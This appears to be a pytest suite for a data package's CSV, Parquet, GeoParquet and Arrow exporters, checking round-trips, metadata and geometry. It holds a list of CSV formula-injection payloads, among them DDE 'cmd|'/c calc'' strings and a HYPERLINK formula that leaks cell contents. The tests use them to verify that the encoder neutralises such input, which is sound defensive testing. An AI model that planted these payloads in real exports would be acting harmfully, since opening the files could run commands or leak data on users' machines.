"""CSV, Parquet and Arrow, read again by other readers."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st

from emdata.tabular.csv import CsvEncoder, plain
from emdata.tabular.model import Column, Table
from emdata.tabular.parquet import GROUP_ROWS, ParquetEncoder
from tests.api.formats.making import EMPTY, FULL, LAYOUT, LINE, written

GOLDEN = (
    "name,height_m,count,is_open,seen_on,seen_at,notes,shape,longitude,latitude\r\n"
    'a|b,1.5,7,true,2026-11-20,2026-11-20T08:30:00.001500Z,"{""seen"":[1,2.50]}",'
    '"{""type"":""LineString"",""coordinates"":[[-105.0,40.0],[-104.0,41.5]]}",-104.5,40.75\r\n'
    "zero,,,,,,,,,\r\n"
    "dot,-2.25,-3,false,,,,,179.5,-10.0\r\n"
)


def _read(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def _post(**values: Any) -> tuple[Any, ...]:
    made = dict(zip(LAYOUT, EMPTY, strict=True))
    return tuple({**made, **values}.values())


def test_csv_is_as_rfc_4180_has_it() -> None:
    assert written("csv").decode() == GOLDEN


def test_csv_without_rows_has_its_header() -> None:
    assert _read(written("csv", [])) == [list(LAYOUT)]


DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠A",
    '=HYPERLINK("http://a.test/?x="&A1,"ok")',
    "=cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "-06:00",
    "\x00=1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_fault_44_text_never_becomes_a_formula(text: str) -> None:
    (_, row) = _read(written("csv", [_post(name=text)]))
    assert row[0] == "'" + text
    assert plain(row[0]) == text


@pytest.mark.parametrize("text", ["-5", "+5", "-12.75", "a=b", "a-b", "3-4", "", "'", "'a", "O'K"])
def test_fault_44_what_is_harmless_stays_as_it_is(text: str) -> None:
    (_, row) = _read(written("csv", [_post(name=text)]))
    assert row[0] == text == plain(row[0])


def test_fault_44_numbers_stay_numbers() -> None:
    row = _post(height_m=-5.5, count=-7, longitude=-105.0)
    frame = pl.read_csv(io.BytesIO(written("csv", [row])))
    assert frame["height_m"].to_list() == [-5.5]
    assert frame["count"].to_list() == [-7]


def test_fault_44_json_text_is_safe_too() -> None:
    (_, row) = _read(written("csv", [_post(notes="=1+1")]))
    assert row[LAYOUT.index("notes")] == "'=1+1"


CELLS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | st.builds(
    "{}{}".format,
    st.sampled_from(["", "'", "''", " ", "\t", "\r\n", '"', ",", "\x00"]),
    st.sampled_from(DANGEROUS),
)
_FORMULA = re.compile(r"[\s\x00\ufeff\u200b]*[=+\-@＝＋－＠]|[\t\r\n]")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?\Z", re.ASCII)


@given(st.lists(st.none() | CELLS, min_size=1, max_size=6))
def test_fault_44_any_text_comes_back_from_csv_and_none_is_a_formula(
    texts: list[str | None],
) -> None:
    table = Table((Column("a", "string"), Column("n", "integer")), ("a", "n"))
    encoder = CsvEncoder(table)
    rows = [(text, number) for number, text in enumerate(texts)]
    body = encoder.begin() + encoder.rows(rows) + encoder.end()
    read = _read(body)
    assert read[0] == ["a", "n"]
    for line, (text, number) in zip(read[1:], rows, strict=True):
        assert line[1] == str(number)
        assert plain(line[0]) == (text or "")
        assert not _FORMULA.match(line[0]) or _NUMBER.match(line[0])
    frame = pl.read_csv(io.BytesIO(body), schema={"a": pl.String, "n": pl.Int64})
    assert [one and plain(one) for one in frame["a"].to_list()] == texts


def test_csv_shows_all_digits_of_a_decimal() -> None:
    (_, row) = _read(written("csv", [_post(height_m=Decimal("-999999999999.123456"))]))
    assert row[1] == "-999999999999.123456"


@given(st.lists(st.none() | CELLS, min_size=1, max_size=4))
def test_a_table_of_one_column_keeps_its_empty_lines(texts: list[str | None]) -> None:
    encoder = CsvEncoder(Table((Column("a", "string"),), ("a",)))
    body = encoder.begin() + encoder.rows([(text,) for text in texts])
    assert [plain(line[0]) for line in _read(body)[1:]] == [text or "" for text in texts]


def test_parquet_has_types_units_and_where_it_is_from() -> None:
    file = pq.ParquetFile(io.BytesIO(written("parquet")))
    schema = file.schema_arrow
    assert schema.field("seen_at").type == pa.timestamp("us", tz="UTC")
    assert schema.field("seen_on").type == pa.date32()
    assert schema.field("height_m").metadata[b"unit"] == b"m"
    assert schema.field("height_m").metadata[b"description"] == b"Height above ground"
    about = schema.metadata
    assert about[b"emdata:is_simulated"] == b"false"
    assert about[b"emdata:newest_accepted_at"] == b"2026-11-21T15:59:58Z"
    assert about[b"emdata:terms"] == b"public domain"
    assert about[b"emdata:data_version"] == b"v1"


def test_geoparquet_places_rows_as_its_specification_says() -> None:
    body = written("geoparquet")
    geo = json.loads(pq.ParquetFile(io.BytesIO(body)).metadata.metadata[b"geo"])
    column = geo["columns"]["geometry"]
    assert (geo["version"], geo["primary_column"]) == ("1.1.0", "geometry")
    assert (column["encoding"], "crs" in column) == ("WKB", False)
    assert column["geometry_types"] == ["LineString", "Point"]
    assert column["bbox"] == [-105.0, -10.0, 179.5, 41.5]
    frame = pl.read_parquet(io.BytesIO(body))
    assert "shape" not in frame.columns
    line, nothing, point = frame["geometry"].to_list()
    assert shapely.from_wkb(line).equals(shapely.from_geojson(LINE))
    assert nothing is None
    assert shapely.from_wkb(point).coords[0] == (179.5, -10.0)
    path = column["covering"]["bbox"]["ymax"]
    assert [row and row[path[1]] for row in frame[path[0]].to_list()] == [41.5, None, -10.0]


def test_parquet_holds_what_the_rows_held() -> None:
    frame = pl.read_parquet(io.BytesIO(written("parquet")))
    first = frame.row(0, named=True)
    assert first["name"] == "a|b"
    assert first["is_open"] is True
    assert first["seen_on"] == date(2026, 11, 20)
    assert first["seen_at"] == datetime(2026, 11, 20, 8, 30, 0, 1500, UTC)
    assert frame["count"].to_list() == [7, None, -3]


def test_shapes_that_cannot_be_read_are_missing_and_heights_are_dropped() -> None:
    deep = '{"type":"Point","coordinates":[1.0,2.0,3.0]}'
    rows = [_post(shape="{}"), _post(shape="{"), _post(shape=deep), _post(shape='{"type":"Point"}')]
    frame = pl.read_parquet(io.BytesIO(written("parquet", rows)))
    shapes = frame["geometry"].to_list()
    assert [shape is None for shape in shapes] == [True, True, False, True]
    assert shapely.from_wkb(shapes[2]).wkt == "POINT (1 2)"


def test_an_instant_that_python_does_not_have_is_missing_in_tables() -> None:
    rows = [_post(seen_at="0000-01-01 00:00:00"), FULL]
    frame = pl.read_parquet(io.BytesIO(written("parquet", rows)))
    assert frame["seen_at"].to_list()[0] is None
    assert frame["seen_at"].to_list()[1] is not None


def test_a_cut_parquet_file_is_refused_by_its_readers() -> None:
    body = written("parquet")
    with pytest.raises(pa.ArrowInvalid):
        pq.ParquetFile(io.BytesIO(body[:-1]))


def test_long_tables_are_written_in_row_groups_and_not_held() -> None:
    table = Table((Column("n", "integer"),), ("n",))
    encoder = ParquetEncoder(table)
    parts = [encoder.begin()]
    for start in range(0, GROUP_ROWS + 10_000, 10_000):
        parts.append(encoder.rows([(number,) for number in range(start, start + 10_000)]))
    assert any(parts[1:]), "nothing was written before the end"
    body = b"".join([*parts, encoder.end()])
    assert pq.ParquetFile(io.BytesIO(body)).num_row_groups == 2
    assert pl.read_parquet(io.BytesIO(body))["n"].to_list() == list(range(GROUP_ROWS + 10_000))


def test_arrow_streams_are_read_by_others_with_their_metadata() -> None:
    reader = pa.ipc.open_stream(written("arrow"))
    assert reader.schema.metadata[b"emdata:collection"] == b"posts"
    field = reader.schema.field("geometry")
    assert field.metadata[b"ARROW:extension:name"] == b"geoarrow.wkb"
    frame = pl.from_arrow(reader.read_all().select(["name", "seen_at"]))
    assert isinstance(frame, pl.DataFrame)
    assert frame["name"].to_list() == ["a|b", "zero", "dot"]
    assert frame["seen_at"].to_list()[0] == datetime(2026, 11, 20, 8, 30, 0, 1500, UTC)


def test_sparse_tables_have_their_columns_and_their_place() -> None:
    frame = pl.read_parquet(io.BytesIO(written("parquet", shown=("name",))))
    assert frame.columns == ["name", "geometry", "bbox"]
    assert _read(written("csv", shown=("name",)))[0] == ["name"]
